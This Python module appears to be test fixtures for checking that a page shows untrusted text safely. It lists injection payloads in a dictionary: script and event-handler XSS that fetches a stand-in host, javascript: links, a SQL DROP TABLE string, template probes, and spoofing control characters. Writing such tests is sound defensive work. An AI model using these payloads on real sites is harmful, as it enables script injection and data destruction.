"""Texts that would do something if a page took them for anything but text, by what they try."""

from __future__ import annotations

OUTSIDE = "http://hostile.invalid"
"""Any request to it shows that a text was believed."""

HOSTILE: dict[str, str] = {
    "script": f"<script>alert(1);fetch('{OUTSIDE}/script')</script>",
    "handler": f"<img src=x onerror=\"alert(2);fetch('{OUTSIDE}/handler')\">",
    "svg": "<svg onload=alert(3)></svg><iframe src='javascript:alert(4)'></iframe>",
    "markdown image": f"![picture]({OUTSIDE}/image.png)",
    "markdown link": f"[press me]({OUTSIDE}/link) [and me](javascript:alert(5))",
    "bare address": f"{OUTSIDE}/bare www.hostile.invalid someone@hostile.invalid",
    "markdown blocks": "# loud\n\n- list\n\n> quote\n\n| a |\n|---|\n| 1 |\n\n```\ncode\n```",
    "emphasis": "**bold** *slanted* ~~gone~~ `code` __under__ a -> b <- c -- d >= e",
    "latex": r"$\href{http://hostile.invalid/latex}{x}$ and $$\frac{1}{0}$$ costs $5 or $6",
    "shortcodes": ":smile: :material/delete: :red[red] :streamlit: :blue-background[x]",
    "entities": "&lt;b&gt; &amp; &#60;script&#62; &nbsp; &copy;",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;http://hostile.invalid\x07link\x1b]8;;\x07 \x07bell",
    "right to left": "safe \u202etxt.exe\u202c \u2066isolated\u2069 \u200fmark",
    "zero width": "in\u200bvis\u2060ible \ufefftext \U000e0041\U000e0042",
    "control": "back\x08space return\rover form\x0cfeed",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} %s %(name)s {0}",
    "sql": "'; DROP TABLE instruction; --",
    "endless word": "w" * 5_000,
    "long": "0123456789 " * 10_000,
}
